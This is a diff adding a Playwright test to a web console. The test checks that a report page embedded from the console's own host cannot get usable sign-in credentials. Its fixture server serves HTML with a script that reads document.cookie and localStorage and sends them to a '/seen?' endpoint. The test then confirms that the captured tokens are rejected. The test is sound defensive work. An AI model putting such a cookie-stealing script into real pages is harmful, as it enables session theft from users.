@@ -1,6 +1,8 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { expect, type Page } from '@playwright/test'
 import { expectNoBarriers } from './barriers.ts'
-import { test } from './open-fair.ts'
+import { signIn, test } from './open-fair.ts'
 import { tabNames, visit } from './tab-steps.ts'
 
 async function addReport(page: Page, name: string, url: string) {
@@ -96,4 +98,32 @@ test('two questions to one report are two tabs; a frame that moves among tabs is
   expect(loads).toBe(2)
   await page.keyboard.press('Delete')
   await expect(frames).toHaveCount(1)
+})
+
+test('a web report on the console’s own host gets nothing to sign in with', async ({ fair, context }) => {
+  const got: string[] = []
+  const script = "fetch('/seen?' + encodeURIComponent(document.cookie + ' ' + JSON.stringify({ ...localStorage })))"
+  const reports = createServer((request, response) => {
+    got.push(`${request.headers.cookie ?? ''} ${decodeURIComponent(request.url ?? '')}`)
+    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(`<h1>看板</h1><script>${script}</script>`)
+  })
+  await new Promise<void>((resolve) => reports.listen(0, '127.0.0.1', resolve))
+  const address = `http://127.0.0.1:${(reports.address() as AddressInfo).port}/`
+  try {
+    const page = await signIn(context, fair)
+    await page.goto(`${fair.address}set/reportList`)
+    await addReport(page, '同机看板', address)
+    await expect(names(page).filter({ hasText: '同机看板' })).toBeVisible()
+    await page.goto(`${fair.address}report/${encodeURIComponent('同机看板')}`)
+    await expect(page.frameLocator('iframe[title="同机看板"]').getByRole('heading', { name: '看板' })).toBeVisible()
+    await expect.poll(() => got.some((one) => one.includes('/seen?'))).toBe(true)
+    const stolen = got.join(' ').match(/[A-Za-z0-9_-]{15,}/g) ?? []
+    for (const token of [...new Set(stolen)]) {
+      const answer = await fetch(`${fair.address}api/user/getSessionUser`, { headers: { token } })
+      expect((await answer.json()).code).toBe(402)
+    }
+    expect(stolen.every((one) => one.length < 40)).toBe(true)
+  } finally {
+    reports.close()
+  }
 })
